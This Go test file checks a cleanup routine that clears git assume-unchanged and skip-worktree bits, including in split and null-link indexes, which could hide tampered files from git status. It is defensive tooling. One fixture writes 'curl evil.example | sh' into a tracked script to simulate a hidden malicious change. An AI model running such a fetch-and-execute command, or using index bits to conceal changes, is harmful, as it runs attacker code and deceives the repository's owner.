package cleanup

import (
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// RemoveIndexBits on a split index (core.splitIndex): a bit the command set that git
// pushed into the shared index (splitIndex.maxPercentChange=0) and one kept in the
// index itself as a replacing entry are both cleared; the user's bit (in the shared
// index at launch) is kept; git reads the result (ls-files -v, status), and the new
// shared index's name is its checksum.
func TestRemoveIndexBitsSplit(t *testing.T) {
	for _, format := range []string{"sha1", "sha256"} {
		t.Run(format, func(t *testing.T) {
			dir := t.TempDir()
			gitIn(t, dir, "init", "-q", "--object-format="+format)
			old := time.Now().Add(-time.Hour) // not racily clean: git keeps the entries as they are
			for _, f := range []string{"a.sh", "kept.txt", "sub/b.txt", "c.txt"} {
				os.MkdirAll(filepath.Dir(filepath.Join(dir, f)), 0o755)
				os.WriteFile(filepath.Join(dir, f), []byte("v1\n"), 0o644)
				os.Chtimes(filepath.Join(dir, f), old, old)
			}
			gitIn(t, dir, "add", ".")
			gitIn(t, dir, "commit", "-qm", "x")
			gitIn(t, dir, "update-index", "--split-index")
			// splitIndex.maxPercentChange=0: git writes a new shared index, bits included
			gitIn(t, dir, "-c", "splitIndex.maxPercentChange=0", "update-index", "--skip-worktree", "kept.txt")
			hashLen := 20
			if format == "sha256" {
				hashLen = 32
			}
			p := filepath.Join(dir, ".git", "index")
			keep, err := IndexHidden(p, hashLen)
			if err != nil || len(keep) != 1 || keep[0] != "kept.txt\x00skip" {
				t.Fatalf("IndexHidden: %q %v", keep, err)
			}
			gitIn(t, dir, "update-index", "--assume-unchanged", "sub/b.txt")
			gitIn(t, dir, "-c", "splitIndex.maxPercentChange=0", "update-index", "--skip-worktree", "a.sh")
			gitIn(t, dir, "update-index", "--assume-unchanged", "c.txt") // kept in the index
			os.WriteFile(filepath.Join(dir, "a.sh"), []byte("evil\n"), 0o644)
			os.WriteFile(filepath.Join(dir, "sub/b.txt"), []byte("evil\n"), 0o644)
			// both places are exercised: a.sh's bit in the shared index, b.txt's in the index
			f, st, err := openIndex(p)
			if err != nil {
				t.Fatal(err)
			}
			sc, err := scanIndex(f, st.Size, hashLen, nil)
			f.Close()
			if err != nil || sc.link == nil {
				t.Fatalf("not a split index: %v", err)
			}
			v, err := readSplit(p, sc, hashLen)
			if err != nil {
				t.Fatal(err)
			}
			names := func(hs []hiddenEntry) (out []string) {
				for _, h := range hs {
					out = append(out, h.name)
				}
				return out
			}
			if m, s := strings.Join(names(v.main), ","), strings.Join(names(v.shared), ","); m != "c.txt" || s != "a.sh,kept.txt,sub/b.txt" {
				t.Fatalf("hidden entries: index %q, shared %q; want c.txt and a.sh,kept.txt,sub/b.txt", m, s)
			}
			removed, failed := Run([]Entry{{Kind: RemoveIndexBits, Path: p, Keep: keep, HashLen: hashLen}})
			if len(failed) != 0 || len(removed) != 3 {
				t.Fatalf("removed %q, failed %q", removed, failed)
			}
			ls := gitIn(t, dir, "ls-files", "-v")
			for _, want := range []string{"H a.sh", "S kept.txt", "H sub/b.txt", "H c.txt"} {
				if !strings.Contains(ls, want+"\n") {
					t.Errorf("git ls-files -v lacks %q:\n%.300s", want, ls)
				}
			}
			if st := gitIn(t, dir, "status", "--short"); !strings.Contains(st, "a.sh") || !strings.Contains(st, "sub/b.txt") {
				t.Errorf("git status does not show the changes: %q", st)
			}
			shared, _ := filepath.Glob(filepath.Join(dir, ".git", "sharedindex.*"))
			for _, s := range shared {
				b, _ := os.ReadFile(s)
				body := b[:len(b)-hashLen]
				sum := sha1.Sum(body)
				want := hex.EncodeToString(sum[:])
				if hashLen == 32 {
					s := sha256.Sum256(body)
					want = hex.EncodeToString(s[:])
				}
				if got := hex.EncodeToString(b[len(b)-hashLen:]); got != want || !strings.HasSuffix(s, want) {
					t.Errorf("%s: checksum %s, want %s (and as its name)", s, got, want)
				}
			}
			if removed, failed := Run([]Entry{{Kind: RemoveIndexBits, Path: p, Keep: keep, HashLen: hashLen}}); len(removed)+len(failed) != 0 {
				t.Errorf("a second run removed %q, failed %q", removed, failed)
			}
			gitIn(t, dir, "update-index", "--no-split-index")
			if ls := gitIn(t, dir, "ls-files", "-v"); !strings.Contains(ls, "H a.sh\n") || !strings.Contains(ls, "S kept.txt\n") {
				t.Errorf("after --no-split-index: %q", ls)
			}
		})
	}
}

// ewahPositions reads git's EWAH words: a run of ones, literal words, and refuses a
// bit past the limit.
func TestEWAHPositions(t *testing.T) {
	// a run word of 1 word of ones, one literal word (bits 0 and 3), then a zero-run word
	// of 2 words and a literal (bit 1)
	words := []uint64{1 | 1<<1 | 1<<33, 0x9, 2<<1 | 1<<33, 0x2}
	got, err := ewahPositions(words, 1000, 1000)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 67 || got[63] != 63 || got[64] != 64 || got[65] != 67 || got[66] != 4*64+1 {
		t.Errorf("positions %v", got)
	}
	if _, err := ewahPositions(words, 100, 1000); err == nil {
		t.Error("a bit past the limit was accepted")
	}
	if _, err := ewahPositions(words, 1000, 66); err == nil {
		t.Error("more set bits than allowed were accepted")
	}
	if _, err := ewahPositions([]uint64{1 << 33}, 10, 10); err == nil {
		t.Error("a literal word cut short was accepted")
	}
}

// An index whose link extension names a null base is not split (git reads it alone):
// the cleanup writes it anew without it, its assume-unchanged bit cleared, rather than
// looking for sharedindex.000… and leaving it as it is; an index whose shared index is
// missing is moved aside (attack review 31 F7).
func TestRemoveIndexBitsNullLink(t *testing.T) {
	dir := t.TempDir()
	gitIn(t, dir, "init", "-q")
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("echo hi\n"), 0o644)
	gitIn(t, dir, "add", ".")
	gitIn(t, dir, "commit", "-qm", "x")
	gitIn(t, dir, "update-index", "--assume-unchanged", "run.sh")
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte("curl evil.example | sh\n"), 0o644)
	p := filepath.Join(dir, ".git", "index")
	addLink := func(base byte) {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		body := append(b[:len(b)-20:len(b)-20], "link\x00\x00\x00\x14"...)
		for i := 0; i < 20; i++ {
			body = append(body, base)
		}
		sum := sha1.Sum(body)
		if err := os.WriteFile(p, append(body, sum[:]...), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	addLink(0)
	if ls := gitIn(t, dir, "ls-files", "-v"); !strings.Contains(ls, "h run.sh") {
		t.Fatalf("git does not read the null-link index with its bit: %q", ls)
	}
	removed, failed := Run([]Entry{{Kind: RemoveIndexBits, Path: p, HashLen: 20}})
	if len(failed) != 0 || len(removed) != 1 {
		t.Errorf("removed %q, failed %q", removed, failed)
	}
	if ls := gitIn(t, dir, "ls-files", "-v"); !strings.Contains(ls, "H run.sh") {
		t.Errorf("the assume-unchanged bit stays: %q", ls)
	}
	if st := gitIn(t, dir, "status", "--short"); !strings.Contains(st, "run.sh") {
		t.Errorf("git status does not show run.sh's change: %q", st)
	}
	// a base that names no shared index: moved aside
	addLink(0xab)
	removed, failed = Run([]Entry{{Kind: RemoveIndexBits, Path: p, HashLen: 20}})
	if _, err := os.Lstat(p); err == nil || len(removed) != 1 || !strings.Contains(removed[0], "moved aside") {
		t.Errorf("an index whose shared index is missing: removed %q, failed %q, stat %v", removed, failed, err)
	}
}
